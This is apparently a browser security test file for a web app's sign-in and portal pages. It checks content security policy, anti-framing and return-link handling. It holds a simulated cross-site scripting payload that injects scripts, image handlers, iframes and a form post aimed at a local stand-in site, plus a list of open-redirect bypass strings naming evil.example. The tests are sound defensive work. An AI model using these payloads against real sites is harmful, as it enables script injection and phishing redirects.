import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, Page } from "playwright-core";
import { afterAll, expect, onTestFinished, test } from "vitest";
import { createOwner } from "#actions/users/create-owner.ts";
import { launchBrowser } from "#test/browser/launch.ts";
import { givenServer, OPERATOR, OWNER } from "#test/given.ts";

/* What a browser does with the policies that the server sends, when something hostile has got into a page or around it. */

let launched: Promise<Browser> | undefined;
afterAll(async () => (await launched)?.close());

/** A page of a new browser profile, on whose console errors are expected. */
async function givenPage(): Promise<Page> {
  launched ??= launchBrowser();
  const context = await (await launched).newContext();
  onTestFinished(() => context.close());
  const page = await context.newPage();
  page.setDefaultTimeout(90_000);
  return page;
}

/** Another site: answers every request with this page. Tells what it was asked for. */
async function givenOtherSite(html = ""): Promise<{ url: string; asked: string[] }> {
  const asked: string[] = [];
  const site = createServer((request, response) => {
    asked.push(request.url ?? "");
    response.writeHead(200, { "content-type": request.url?.endsWith(".js") ? "text/javascript" : "text/html" });
    response.end(request.url?.endsWith(".js") ? "window.isHostile = true" : html);
  }).listen(0, "127.0.0.1");
  await new Promise((listening) => site.once("listening", listening));
  onTestFinished(async () => {
    site.closeAllConnections();
    await new Promise((closed) => site.close(closed));
  });
  return { url: `http://127.0.0.1:${(site.address() as AddressInfo).port}`, asked };
}

/** What somebody does who can put markup and scripts into a page. Answers what the browser has kept them from. */
const ATTACK = (site: string): string => `(async () => {
  const held = new Set();
  document.addEventListener("securitypolicyviolation", (event) => held.add(event.effectiveDirective));
  const add = (name, more) => document.body.appendChild(Object.assign(document.createElement(name), more));
  add("script", { textContent: "window.isHostile = true" });
  add("script", { src: "${site}/hostile.js" });
  add("div", { innerHTML: '<img src="${site}/seen.png" onerror="window.isHostile = true"><iframe src="${site}/framed"></iframe>' });
  add("a", { href: "javascript:window.isHostile = true" }).click();
  await fetch("${site}/told", { mode: "no-cors" }).catch(() => undefined);
  add("form", { action: "${site}/sent", method: "post" }).submit();
  const wanted = ["script-src-elem", "script-src-attr", "img-src", "frame-src", "connect-src", "form-action"];
  const until = performance.now() + 30_000;
  while (!wanted.every((rule) => held.has(rule)) && performance.now() < until)
    await new Promise((later) => setTimeout(later, 20));
  return { open: wanted.filter((rule) => !held.has(rule)), isHostile: "isHostile" in window };
})()`;

test.each(["/sign-in", "/portal"])(
  "a script that gets into %s is not run, and tells no other site anything",
  async (path) => {
    const [server, other, page] = await Promise.all([givenServer(), givenOtherSite(), givenPage()]);
    await page.goto(server.url + path);
    await page.getByRole("heading", { level: 1 }).first().waitFor();
    expect(await page.evaluate(ATTACK(other.url))).toEqual({ open: [], isHostile: false });
    expect(other.asked).toEqual([]);
  },
);

test("another site can't put any of our pages into its own", async () => {
  const server = await givenServer();
  const paths = ["/sign-in", "/portal", "/api/docs", "/api/openapi.json"];
  const other = await givenOtherSite(paths.map((path) => `<iframe src="${server.url}${path}"></iframe>`).join(""));
  const page = await givenPage();
  const refused: string[] = [];
  page.on("console", (message) => refused.push(message.text()));
  await page.goto(other.url);
  await expect
    .poll(() => refused.filter((text) => /frame-ancestors|refused to connect|Refused to frame/.test(text)).length)
    .toBe(4);
  for (const frame of page.frames().slice(1)) expect(await frame.locator("h1").count()).toBe(0);
});

/** Other sites, in ways that have got past such checks elsewhere. */
const ELSEWHERE = [
  ...["//evil.example/", "/\\evil.example/", "/\t/evil.example/", "/./\\evil.example", "/.//evil.example"],
  ...["https://evil.example/", "javascript:alert(1)", "http://["],
];

test("a link to the sign-in that names another site leads to our own", async () => {
  const server = await givenServer();
  await createOwner(server.as(OPERATOR), OWNER);
  for (const back of [...ELSEWHERE, "/licenses?status=active"]) {
    const page = await givenPage();
    const asked = new Set<string>();
    page.on("request", (request) => asked.add(new URL(request.url()).origin));
    await page.goto(`${server.url}/sign-in?return=${encodeURIComponent(back)}`);
    await page.getByLabel("E-mail").fill(OWNER.email);
    await page.getByLabel("Password", { exact: true }).fill(OWNER.password);
    await page.getByRole("button", { name: "Sign in", exact: true }).click();
    await page.getByRole("navigation").first().waitFor();
    const { pathname, search } = new URL(page.url());
    expect(pathname + search, back).toBe(ELSEWHERE.includes(back) ? "/" : back);
    expect([...asked], back).toEqual([server.url]);
  }
});
